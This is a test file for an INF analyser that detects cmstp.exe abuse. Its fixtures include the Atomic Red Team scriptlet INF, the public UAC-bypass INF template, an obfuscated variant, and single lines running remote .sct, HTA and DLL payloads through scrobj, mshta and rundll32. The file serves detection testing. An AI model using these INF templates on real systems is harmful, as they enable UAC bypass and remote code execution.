// INF analysis: the Atomic T1218.003 shapes, the public UAC-bypass template, a CMAK-style
// profile, obfuscated and malformed files, each written here in the encodings cmstp accepts,
// then analysed through the library and through `cmstp-hunt inf`.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { analyzeInf, parseInf, type InfReport } from '../src/inf/index.js';
import { projectRoot } from './support/shared-data.js';

const crlf = (lines: string[]): string => lines.join('\r\n') + '\r\n';
const ansi = (text: string): Uint8Array => Buffer.from(text, 'latin1');
const utf16le = (text: string, bom = true): Uint8Array => Buffer.concat([bom ? Buffer.from([0xff, 0xfe]) : Buffer.alloc(0), Buffer.from(text, 'utf16le')]);

// Atomic test 1 (NickTyrer's scriptlet INF).
const ATOMIC_1 = crlf([
  ';cmstp.exe /s cmstp.inf',
  '',
  '[version]',
  'Signature=$chicago$',
  'AdvancedINF=2.5',
  '',
  '[DefaultInstall_SingleUser]',
  'UnRegisterOCXs=UnRegisterOCXSection',
  '',
  '[UnRegisterOCXSection]',
  '%11%\\scrobj.dll,NI,https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.003/src/T1218.003.sct',
  '',
  '[Strings]',
  'AppAct = "SOFTWARE\\Microsoft\\Connection Manager"',
  'ServiceName="Yay"',
  'ShortSvcName="Yay"',
]);

// Atomic test 2 (RunPreSetupCommands, a dangling RegisterOCXs, CMAK-looking strings).
const ATOMIC_2 = crlf([
  '[version]',
  'Signature=$chicago$',
  'AdvancedINF=2.5',
  '',
  '[DefaultInstall]',
  'CustomDestination=CustInstDestSectionAllUsers',
  'RunPreSetupCommands=RunPreSetupCommandsSection',
  ';CopyFiles=Xnstall.CopyFiles, Xnstall.CopyFiles.ICM',
  ';AddReg=Xnstall.AddReg.AllUsers',
  'RegisterOCXs=RegisterOCXSection',
  '',
  '[RunPreSetupCommandsSection]',
  'c:\\windows\\system32\\cmd.exe',
  'taskkill /IM cmstp.exe /F',
  '',
  '[CustInstDestSectionAllUsers]',
  '49000,49001=AllUSer_LDIDSection, 7',
  '',
  '[AllUSer_LDIDSection]',
  '"HKLM", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\CMMGR32.EXE", "ProfileInstallPath", "%UnexpectedError%", ""',
  '',
  '[Strings]',
  'ServiceName="MalCorp"',
  'ShortSvcName="malcorp"',
  'DesktopGUID="{1F1A1A82-9B5C-4C31-9E0B-3E1D5C7B9A00}"',
  'DisplayLCID=1033',
  'CmLCID=1033',
]);

// The caret-obfuscated template variant with a payload from %TEMP% and line continuations.
const OBFUSCATED = crlf([
  '[version]',
  'Signature="$Windows NT$"',
  'AdvancedINF=2.5',
  '',
  '[DefaultInstall]',
  'CustomDestination=CustInstDestSectionAllUsers',
  'RunPreSetupCommands=%PreSec%',
  '',
  '[RunPreSetupCommandsSection]',
  'cmd /c start %TEMP%\\\\',
  'x.vbs',
  't^a^s^k^k^i^l^l /I^M c^m^s^t^p.^e^x^e /F',
  '',
  '[CustInstDestSectionAllUsers]',
  '49000,49001=AllUSer_LDIDSection, 7',
  '',
  '[AllUSer_LDIDSection]',
  '"HKLM", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\CMMGR32.EXE", "ProfileInstallPath", "%UnexpectedError%", ""',
  '',
  '[Strings]',
  'PreSec="RunPreSetupCommandsSection"',
  'ServiceName="CorpVPN"',
  'ShortSvcName="CorpVPN"',
]);

// A CMAK-style profile: copies its files, writes its keys, reads the all-users template; no commands.
const CMAK = crlf([
  '[Version]',
  'Signature=$chicago$',
  'AdvancedINF=2.5, "You need a newer version of advpack.dll"',
  '',
  '[DefaultInstall]',
  'CopyFiles=Xnstall.CopyFiles, Xnstall.CopyFiles.ICM',
  'AddReg=Xnstall.AddReg.AllUsers',
  'CustomDestination=CustInstDestSectionAllUsers',
  '',
  '[Xnstall.CopyFiles]',
  'contoso.cms',
  'contoso.pbk',
  '',
  '[Xnstall.CopyFiles.ICM]',
  'contoso.cmp',
  '',
  '[Xnstall.AddReg.AllUsers]',
  'HKLM,"%KeyNameUninstall%\\%ShortSvcName%",DisplayName,,"%ServiceName%"',
  '',
  '[CustInstDestSectionAllUsers]',
  '49000,49001=AllUSer_LDIDSection, 7',
  '',
  '[AllUSer_LDIDSection]',
  '"HKLM", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\CMMGR32.EXE", "ProfileInstallPath", "%UnexpectedError%", ""',
  '',
  '[Strings]',
  'ServiceName="Contoso VPN"',
  'ShortSvcName="contoso"',
  'KeyNameUninstall="Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall"',
  'UnexpectedError="An unexpected error occurred."',
  'DisplayLCID=1033',
]);

function dir(): string {
  return mkdtempSync(join(tmpdir(), 'inf-test-'));
}

const codes = (r: InfReport): string[] => r.reasons.map((x) => x.code);

test('Atomic test 1: a remote scriptlet through UnRegisterOCXs and scrobj.dll is critical', () => {
  const r = analyzeInf(ansi(ATOMIC_1));
  assert.equal(r.verdict, 'malicious');
  assert.equal(r.level, 'critical');
  assert.equal(r.signature, '$chicago$');
  assert.equal(r.advancedInf, '2.5');
  assert.deepEqual(r.installSections, ['DefaultInstall_SingleUser']);
  assert.equal(r.ocx.length, 1);
  const o = r.ocx[0]!;
  assert.equal(o.path, 'C:\\Windows\\System32\\scrobj.dll', '%11% is System32');
  assert.equal(o.flags, 'NI');
  assert.equal(o.scriptlet, true);
  assert.deepEqual(o.remote, ['https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.003/src/T1218.003.sct']);
  assert.equal(o.line, 11);
  assert.ok(codes(r).includes('scriptlet'));
  assert.ok(codes(r).includes('appact-marker'));
  assert.equal(r.serviceName, 'Yay');
  assert.equal(r.commands.length, 0);
});

test('Atomic test 2 in UTF-16LE: cmd.exe and taskkill cmstp before setup; the dangling OCX section is noted', () => {
  for (const bytes of [utf16le(ATOMIC_2), utf16le(ATOMIC_2, false)]) {
    const r = analyzeInf(bytes);
    assert.equal(r.encoding, 'utf-16le');
    assert.deepEqual(
      r.commands.map((c) => [c.directive, c.command, c.line]),
      [
        ['RunPreSetupCommands', 'c:\\windows\\system32\\cmd.exe', 13],
        ['RunPreSetupCommands', 'taskkill /IM cmstp.exe /F', 14],
      ],
    );
    assert.deepEqual(r.commands[0]!.lolbins, ['cmd.exe']);
    assert.ok(r.uacTemplate !== null);
    assert.match(r.uacTemplate.registry, /^HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\CMMGR32\.EXE\\ProfileInstallPath$/);
    for (const c of ['uac-bypass-template', 'command-lolbin', 'kills-cmstp', 'dangling-section']) assert.ok(codes(r).includes(c), c);
    assert.equal(r.level, 'critical');
    assert.equal(r.shortServiceName, 'malcorp');
    // Commented-out directives are not read.
    assert.ok(!r.reasons.some((x) => /Xnstall/.test(x.message)));
  }
});

test('obfuscated template: %strings% in directive values, continuations, carets and %TEMP% are seen through', () => {
  const r = analyzeInf(ansi(OBFUSCATED));
  assert.equal(r.signature, '$Windows NT$');
  assert.equal(r.commands.length, 2);
  assert.equal(r.commands[0]!.command, 'cmd /c start %TEMP%\\x.vbs', 'the continuation joins the next line');
  assert.deepEqual(r.commands[0]!.userWritable, ['%TEMP%']);
  assert.equal(r.commands[1]!.obfuscated, true);
  assert.deepEqual(r.commands[1]!.lolbins, [], 'cmstp.exe is what taskkill kills, not a program it runs');
  assert.deepEqual(r.commands[0]!.lolbins, ['cmd.exe']);
  for (const c of ['uac-bypass-template', 'command-user-writable', 'command-obfuscated', 'kills-cmstp']) assert.ok(codes(r).includes(c), c);
  assert.equal(r.verdict, 'malicious');
  // %TEMP% is left for cmd.exe to expand, and said so.
  assert.ok(r.problems.some((p) => p.code === 'undefined-string' && /%TEMP%/.test(p.message)));
});

test('a CMAK-style profile without commands is clean, with the template noted as informational', () => {
  const r = analyzeInf(ansi(CMAK));
  assert.equal(r.verdict, 'clean');
  assert.equal(r.level, 'informational');
  assert.deepEqual(codes(r), ['cmak-all-users-template']);
  assert.equal(r.commands.length, 0);
  assert.equal(r.ocx.length, 0);
  assert.equal(r.serviceName, 'Contoso VPN');
  assert.equal(r.advancedInf, '2.5', 'only the first field of AdvancedINF');
});

test('ANSI (Windows-1252) and UTF-8 INFs: accented [Strings] values decode, the encoding is reported', () => {
  const text = CMAK.replace('ServiceName="Contoso VPN"', 'ServiceName="Soci\u00e9t\u00e9 G\u00e9n\u00e9rale VPN \u20ac"');
  const cp1252 = Buffer.from(text.replace('\u20ac', '\u0080'), 'latin1');
  const r = analyzeInf(cp1252);
  assert.equal(r.encoding, 'windows-1252');
  assert.equal(r.serviceName, 'Soci\u00e9t\u00e9 G\u00e9n\u00e9rale VPN \u20ac', 'byte 0x80 is the euro sign in 1252');
  const u8 = analyzeInf(Buffer.from(text, 'utf8'));
  assert.equal(u8.encoding, 'utf-8');
  assert.equal(u8.serviceName, r.serviceName);
  const be = analyzeInf(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(text, 'utf16le').swap16()]));
  assert.equal(be.encoding, 'utf-16be');
  assert.equal(be.serviceName, r.serviceName);
});

test('a profile starting only Connection Manager binaries is low; the same with a LOLBin is not', () => {
  const profile = (cmd: string): string => crlf(['[Version]', 'Signature=$chicago$', '[DefaultInstall]', 'RunPostSetupCommands=Post', '[Post]', cmd]);
  const cm = analyzeInf(ansi(profile('%11%\\cmmgr32.exe')));
  assert.equal(cm.level, 'low');
  assert.equal(cm.commands[0]!.command, 'C:\\Windows\\System32\\cmmgr32.exe');
  const ps = analyzeInf(ansi(profile('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA')));
  assert.equal(ps.level, 'high');
  assert.ok(codes(ps).includes('command-obfuscated'));
  const chained = analyzeInf(ansi(profile('C:\\Contoso\\helper.exe /q & cmd.exe /c start "" /min mshta.exe vbscript:Close(Execute("x"))')));
  assert.deepEqual(chained.commands[0]!.lolbins, ['cmd.exe', 'mshta.exe'], 'programs behind & , cmd /c and start');
  assert.equal(chained.commands[0]!.program, 'helper');
  const remote = analyzeInf(ansi(profile('rundll32.exe \\\\198.51.100.7\\share\\x.dll,Start')));
  assert.deepEqual(remote.commands[0]!.remote, ['\\\\198.51.100.7\\share\\x.dll']);
});

test('directive names from [Strings] and odd case still count', () => {
  const r = analyzeInf(ansi(crlf(['[VERSION]', 'signature=$CHICAGO$', '[defaultinstall]', '%Dir%=cmds', '[CMDS]', 'RUNDLL32 %011%\\advpack.dll,LaunchINFSection x.inf', '[strings]', 'dir=RunPostSetupCommands'])));
  assert.deepEqual(r.commands.map((c) => [c.directive, c.command, c.lolbins]), [['RunPostSetupCommands', 'RUNDLL32 C:\\Windows\\System32\\advpack.dll,LaunchINFSection x.inf', ['rundll32.exe']]]);
  assert.equal(r.level, 'high');
});

test('an OCX DLL from a user folder is high; a remote one critical', () => {
  const inf = (line: string): string => crlf(['[Version]', 'Signature=$chicago$', '[DefaultInstall]', 'RegisterOCXs=Ocx', '[Ocx]', line]);
  assert.equal(analyzeInf(ansi(inf('C:\\Users\\bob\\AppData\\Local\\Temp\\a.dll,I'))).level, 'high');
  assert.equal(analyzeInf(ansi(inf('\\\\evil.example\\dav\\a.ocx'))).level, 'critical');
  assert.equal(analyzeInf(ansi(inf('%11%\\msxml3.dll'))).level, 'low');
});

test('malformed INFs: problems with line numbers, no crash, what can be read is still analysed', () => {
  const text = [
    'Orphan=1',
    '[Version',
    'Signature=$chicago$',
    '[DefaultInstall]',
    'RunPreSetupCommands=Cmds',
    '[Cmds]',
    'cmd.exe /c "unterminated',
    'mshta.exe http://203.0.113.9/p.hta \\',
  ].join('\n');
  const r = analyzeInf(ansi(text));
  const p = r.problems.map((x) => [x.code, x.line]);
  assert.deepEqual(p, [
    ['continuation-at-end', 8],
    ['entry-outside-section', 1],
    ['unclosed-section-header', 2],
    ['unterminated-quote', 7],
  ]);
  assert.equal(r.signature, '$chicago$', 'an unclosed header still opens its section');
  assert.equal(r.commands.length, 2);
  assert.deepEqual(r.commands[1]!.remote, ['http://203.0.113.9/p.hta']);
  assert.equal(r.level, 'high');
});

test('hostile input: binary junk, NULs, huge lines and many sections stay within the caps', () => {
  const junk = new Uint8Array(200_000);
  for (let i = 0; i < junk.length; i++) junk[i] = (i * 7919) % 256;
  const r = analyzeInf(junk);
  assert.ok(['clean', 'suspicious', 'malicious'].includes(r.verdict));
  const long = analyzeInf(ansi(`[DefaultInstall]\nRunPreSetupCommands=A\n[A]\ncmd.exe ${'x'.repeat(100_000)}\n`), { maxBytes: 1 << 20, maxLines: 1000, maxLineLength: 1000 });
  assert.ok(long.problems.some((p) => p.code === 'line-too-long' && p.line === 4));
  assert.equal(long.commands[0]!.command.length, 1000);
  const nul = analyzeInf(ansi('[Version]\nSignature=$chi\u0000cago$\n'));
  assert.equal(nul.signature, '$chicago$');
  assert.ok(nul.problems.some((p) => p.code === 'nul-characters' && p.line === 2));
  const capped = analyzeInf(ansi('[a]\n'.repeat(50)), { maxBytes: 40, maxLines: 5, maxLineLength: 100 });
  assert.deepEqual(
    capped.problems.map((p) => p.code),
    ['input-truncated', 'too-many-lines'],
  );
});

test('[Strings] lookups are case-insensitive, %% is a percent sign, a locale section fills gaps, repeated sections merge', () => {
  const inf = parseInf(
    ansi(crlf(['[Strings]', 'Name="A"', '[Strings.0409]', 'name="B"', 'Other="C"', '[S]', 'x=%NAME%,%other%,100%%', '[s]', 'y=%24%'])),
  );
  const s = inf.sections.get('s')!;
  assert.deepEqual(s.entries.map((e) => e.fields), [['A', 'C', '100%'], ['C:\\']]);
});

test('cmstp-hunt inf: text and JSON, exit codes 0/1/2, stdin, and escaped control characters', () => {
  const d = dir();
  const bad = join(d, 'XKNqbpzl.txt');
  const good = join(d, 'contoso.inf');
  writeFileSync(bad, utf16le(ATOMIC_2));
  writeFileSync(good, ansi(CMAK));
  const cli = join(projectRoot(), 'dist', 'src', 'cli', 'main.js');
  const run = (args: string[], input?: Uint8Array) => spawnSync(process.execPath, [cli, 'inf', ...args], { encoding: 'utf8', ...(input ? { input } : {}) });

  const clean = run([good]);
  assert.equal(clean.status, 0, clean.stderr);
  assert.match(clean.stdout, /contoso\.inf: clean \(informational\)/);

  const json = run(['--json', bad, good]);
  assert.equal(json.status, 1);
  const lines = json.stdout.trim().split('\n').map((l) => JSON.parse(l) as InfReport & { file: string });
  assert.deepEqual(lines.map((l) => [l.file, l.verdict, l.level]), [
    [bad, 'malicious', 'critical'],
    [good, 'clean', 'informational'],
  ]);

  assert.equal(run(['--fail-on', 'critical', good]).status, 0);
  assert.equal(run(['--fail-on', 'bogus', good]).status, 2);
  assert.equal(run([join(d, 'missing.inf')]).status, 2);
  assert.equal(run(['https://example.invalid/x.inf']).status, 2);

  const stdin = run(['-'], ansi(ATOMIC_1));
  assert.equal(stdin.status, 1);
  assert.match(stdin.stdout, /^<stdin>: malicious \(critical\)/);

  const evil = run(['-'], ansi(crlf(['[DefaultInstall]', 'RunPreSetupCommands=A', '[A]', 'cmd.exe /c echo \u001b[31mred'])));
  assert.ok(!evil.stdout.includes('\u001b'), 'no raw escape reaches the terminal');
  assert.match(evil.stdout, /\\x1b\[31mred/);
});
